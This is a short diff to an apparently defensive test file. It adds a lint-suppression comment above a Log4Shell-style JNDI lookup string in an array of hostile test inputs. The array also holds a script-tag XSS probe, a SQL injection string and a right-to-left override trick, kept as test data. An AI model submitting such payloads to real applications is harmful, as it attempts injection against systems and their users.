@@ -50,6 +50,7 @@ const FORWARDED = [
   '\u202eevil\u202c',
   '<script>alert(1)</script>',
   "' OR '1'='1",
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell-style id, meant literally
   '${jndi:ldap://x}',
   'x'.repeat(256),
   'C:\\Windows',
